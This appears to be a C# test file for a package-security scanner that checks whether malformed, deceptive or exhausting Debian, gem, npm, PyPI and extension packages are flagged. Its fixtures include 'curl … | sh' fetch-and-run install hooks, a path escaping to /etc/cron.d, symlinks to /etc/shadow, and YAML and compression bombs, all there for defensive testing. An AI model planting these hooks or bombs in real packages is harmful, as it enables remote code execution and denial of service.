using System.Diagnostics;
using System.Formats.Tar;
using System.Text;
using Wellguard.Artifacts;
using Wellguard.Signals;
using Wellguard.Verdicts;
using Xunit;

namespace Wellguard.Tests.Packages;

/// <summary>Packages that are damaged, lie, or want to exhaust who reads them: the answer says what could not be read, and none is clean by it.</summary>
public sealed class HostilePackageTests
{
    private const string Specification = "name: example\nversion:\n  version: 1.0.0\n";
    private const string RubyFetches = "system('curl -s http://192.0.2.9/x | sh')\n";

    /// <summary>On one busy core.</summary>
    private static readonly TimeSpan Worst = TimeSpan.FromSeconds(30);

    private static readonly byte[] Control = PackageForms.Gzip(PackageForms.Tar("./control", "Package: example\nVersion: 1.0-1\n"));
    private static readonly byte[] Version = "2.0\n"u8.ToArray();

    public static TheoryData<string> Unopenable => ["an ar header that is none", "a member longer than the file", "no package of Debian", "neither control nor data", "a gem without files", "half an extension", "a manifest that is not XML", "an extension whose manifest is no JSON"];

    [Theory]
    [MemberData(nameof(Unopenable))]
    public async Task What_cannot_be_opened_fails_with_its_reason(string what)
    {
        var good = PackageForms.Debian(["postinst", "#!/bin/sh\n"]);
        var bytes = what switch
        {
            "an ar header that is none" => [.. good[..130], .. new byte[40], .. good[170..]],
            "a member longer than the file" => Encoding.Latin1.GetBytes(Encoding.Latin1.GetString(PackageForms.Ar(("debian-binary", Version), ("control.tar.gz", Control))).Replace($"{Control.Length,-10}`", "999999999 `", StringComparison.Ordinal)),
            "no package of Debian" => PackageForms.Ar(("hello.o", [1, 2, 3])),
            "neither control nor data" => PackageForms.Ar(("debian-binary", Version)),
            "a gem without files" => PackageForms.Tar([("metadata.gz", PackageForms.Gzip(Encoding.UTF8.GetBytes(Specification))), ("checksums.yaml.gz", PackageForms.Gzip([]))]),
            "half an extension" => PackageForms.Extension("""{"publisher":"somebody","name":"example","version":"1.0.0"}""")[..200],
            "a manifest that is not XML" => PackageForms.Zip("extension.vsixmanifest", "<a", "extension/package.json", "{}"),
            _ => PackageForms.Extension("{"),
        };
        var problem = await Assert.ThrowsAsync<UnreadableException>(() => PackageForms.ScanAsync(bytes));
        Assert.NotEmpty(problem.Why);
    }

    public static TheoryData<string, string> Partial => new()
    {
        { "no control file", "has no control file" },
        { "no control archive", "is missing in the package" },
        { "no data archive", "is missing in the package" },
        { "two data archives", "is in the package twice" },
        { "a data archive that is none", "tar" },
        { "half a data archive", "damaged or ends early" },
        { "a way out of the package", "climbs out of the root" },
        { "a specification of laughs", "" },
        { "a specification that is deep", "nested deeper" },
        { "a specification that is no YAML", "line" },
        { "an extension that names another", "names the extension" },
        { "a module that names another", "says that the module is" },
        { "an action that runs another image", "scan it as a target of its own" },
        { "an action that runs nothing", "does not say what the action runs" },
    };

    [Theory]
    [MemberData(nameof(Partial))]
    public async Task What_is_not_seen_whole_is_said_and_is_never_clean(string what, string reason)
    {
        var data = PackageForms.Gzip(PackageForms.Tar("./usr/share/x", new string('x', 100_000) + Guid.NewGuid()));
        var deep = Specification + "a: " + new string('[', 5_000);
        const string Laughs = "a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: [*d,*d,*d,*d,*d,*d,*d,*d,*d]\n";
        var bytes = what switch
        {
            "no control file" => PackageForms.Ar(("debian-binary", Version), ("control.tar.gz", PackageForms.Gzip(PackageForms.Tar("./postinst", "#!/bin/sh\n"))), ("data.tar.gz", data)),
            "no control archive" => PackageForms.Ar(("debian-binary", Version), ("data.tar.gz", data)),
            "no data archive" => PackageForms.Ar(("debian-binary", Version), ("control.tar.gz", Control)),
            "two data archives" => PackageForms.Ar(("debian-binary", Version), ("control.tar.gz", Control), ("data.tar.gz", data), ("data.tar.xz", data)),
            "a data archive that is none" => PackageForms.Ar(("debian-binary", Version), ("control.tar.gz", Control), ("data.tar.lzma", [0x5D, 0, 0, 1, 2, 3, .. new byte[1000].Select(static _ => (byte)7)])),
            "half a data archive" => PackageForms.Ar(("debian-binary", Version), ("control.tar.gz", Control), ("data.tar.gz", data[..(data.Length / 2)])),
            "a way out of the package" => PackageForms.Ar(("debian-binary", Version), ("control.tar.gz", Control), ("data.tar.gz", PackageForms.Gzip(PackageForms.Tar("../../etc/cron.d/x", "* * * * * root true\n")))),
            "a specification of laughs" => PackageForms.Gem(Specification + Laughs + "\t- [", "lib/example.rb", RubyFetches),
            "a specification that is deep" => PackageForms.Gem(deep, "ext/a/extconf.rb", RubyFetches),
            "a specification that is no YAML" => PackageForms.Gem("a: [\n", "ext/a/extconf.rb", RubyFetches),
            "an extension that names another" => PackageForms.Extension("""{"publisher":"another","name":"example","version":"1.0.0"}"""),
            "a module that names another" => PackageForms.Zip("example.com/a@v1.0.0/go.mod", "module example.com/other\n"),
            "an action that runs another image" => PackageForms.Gzip(PackageForms.Tar("x-1/action.yml", "runs:\n  using: docker\n  image: docker://example.com/x:1\n")),
            _ => PackageForms.Gzip(PackageForms.Tar("x-1/action.yml", "name: x\n")),
        };
        var clock = Stopwatch.StartNew();
        var report = await PackageForms.ScanAsync(bytes);
        Assert.True(clock.Elapsed < Worst, $"{clock.Elapsed}");
        Assert.NotEqual(CompletenessState.Complete, report.Completeness.State);
        Assert.NotEqual(Level.Clean, report.Verdict.Level);
        Assert.Contains(report.Completeness.Reasons, shortfall => (shortfall.What + " " + shortfall.Why).Contains(reason, StringComparison.Ordinal));
    }

    [Fact]
    public async Task Aliases_in_a_specification_multiply_nothing()
    {
        var lists = string.Concat(Enumerable.Range(1, 30).Select(static i => $"l{i}: &l{i} [{string.Join(',', Enumerable.Repeat($"*l{i - 1}", 9))}]\n"));
        var clock = Stopwatch.StartNew();
        var report = await PackageForms.ScanAsync(PackageForms.Gem(Specification + "l0: &l0 [x]\n" + lists, "lib/example.rb", "puts 1\n"));
        Assert.True(clock.Elapsed < Worst, $"{clock.Elapsed}");
        Assert.Equal(("pkg:gem/example@1.0.0", CompletenessState.Complete), (report.Artifact.Purl, report.Completeness.State));
    }

    [Fact]
    public async Task A_gem_that_does_not_say_what_it_builds_builds_everything()
    {
        var report = await PackageForms.ScanAsync(PackageForms.Gem("a: [\n", "ext/a/extconf.rb", RubyFetches));
        Assert.Equal((Decision.Block, "ext/a/extconf.rb"), (report.Verdict.Decision, report.Signals[0].Where.Path));
    }

    [Fact]
    public async Task A_package_is_what_its_bytes_are_and_not_what_its_file_is_called()
    {
        var npm = PackageForms.Gzip(PackageForms.Tar("package/package.json", """{"name":"a","version":"1.0.0","scripts":{"postinstall":"curl -s http://192.0.2.9/x | sh"}}"""));
        foreach (var name in (string[])["a-1.0.0.gem", "a_1.0_all.deb", "a-1.0.0.crate", "a.vsix"])
        {
            var report = await PackageForms.ScanAsync(npm, name);
            Assert.Equal(("pkg:npm/a@1.0.0", Decision.Block), (report.Artifact.Purl, report.Verdict.Decision));
        }
    }

    [Theory]
    [InlineData("xz")]
    [InlineData("bzip2")]
    public async Task A_bomb_ends_with_its_reason(string tool)
    {
        Tool.Require(tool);
        using var folder = new TempFolder();
        var file = folder.At("data.tar");
        using (var bomb = File.Create(file))
        {
            using var tar = new TarWriter(bomb, TarEntryFormat.Pax);
            tar.WriteEntry(new PaxTarEntry(TarEntryType.RegularFile, "./x") { DataStream = new ZeroStream(700L << 20) });
        }

        Tool.Run(tool, tool == "xz" ? "-0" : "-9", file);
        var packed = File.ReadAllBytes(file + (tool == "xz" ? ".xz" : ".bz2"));
        var clock = Stopwatch.StartNew();
        var report = await PackageForms.ScanAsync(PackageForms.Ar(("debian-binary", Version), ("control.tar.gz", Control), ("data.tar.xz", packed)));
        Assert.True(clock.Elapsed < Worst, $"{clock.Elapsed}");
        Assert.Contains(report.Completeness.Reasons, static shortfall => shortfall.Why.Contains("stored bytes expand beyond", StringComparison.Ordinal));
        Assert.NotEqual(Level.Clean, report.Verdict.Level);
    }

    [Theory]
    [InlineData("xz", ".xz")]
    [InlineData("bzip2", ".bz2")]
    [InlineData("gzip", ".gz")]
    [InlineData("", "")]
    public async Task A_source_archive_is_read_however_it_is_compressed(string tool, string ending)
    {
        using var folder = new TempFolder();
        var file = folder.At("a-1.0.tar");
        File.WriteAllBytes(file, PackageForms.Tar("a-1.0/PKG-INFO", "Metadata-Version: 2.1\nName: a\nVersion: 1.0\n", "a-1.0/setup.py", "import os\nos.system('curl http://192.0.2.9/x | sh')\n"));
        if (tool.Length > 0)
        {
            Tool.Run(tool, file);
        }

        var report = await PackageForms.ScanAsync(File.ReadAllBytes(file + ending), "a-1.0.tar" + ending);
        Assert.Equal(("pkg:pypi/a@1.0", Decision.Block, "a-1.0/setup.py"), (report.Artifact.Purl, report.Verdict.Decision, report.Signals[0].Where.Path));
    }

    [Fact]
    public async Task Links_of_a_package_lead_nowhere()
    {
        using var bytes = new MemoryStream();
        using (var tar = new TarWriter(bytes, TarEntryFormat.Ustar, leaveOpen: true))
        {
            tar.WriteEntry(new UstarTarEntry(TarEntryType.SymbolicLink, "./etc/x") { LinkName = "/etc/shadow" });
            tar.WriteEntry(new UstarTarEntry(TarEntryType.SymbolicLink, "./usr/bin/y") { LinkName = "../../../../../../etc/passwd" });
            tar.WriteEntry(new UstarTarEntry(TarEntryType.SymbolicLink, "./loop") { LinkName = "loop" });
        }

        var report = await PackageForms.ScanAsync(PackageForms.Ar(("debian-binary", Version), ("control.tar.gz", Control), ("data.tar", bytes.ToArray())));
        Assert.Equal(CompletenessState.Complete, report.Completeness.State);
        Assert.DoesNotContain(report.Signals, static signal => signal.Severity >= Severity.High);
    }

    private sealed class ZeroStream(long length) : Stream
    {
        private long _left = length;

        public override bool CanRead => true;
        public override bool CanSeek => true;
        public override bool CanWrite => false;
        public override long Length { get; } = length;
        public override long Position { get => Length - _left; set => _left = Length - value; }

        public override int Read(byte[] buffer, int offset, int count)
        {
            var read = (int)Math.Min(count, _left);
            Array.Clear(buffer, offset, read);
            _left -= read;
            return read;
        }

        public override void Flush()
        {
        }

        public override long Seek(long offset, SeekOrigin origin) => throw new NotSupportedException();
        public override void SetLength(long value) => throw new NotSupportedException();
        public override void Write(byte[] buffer, int offset, int count) => throw new NotSupportedException();
    }
}
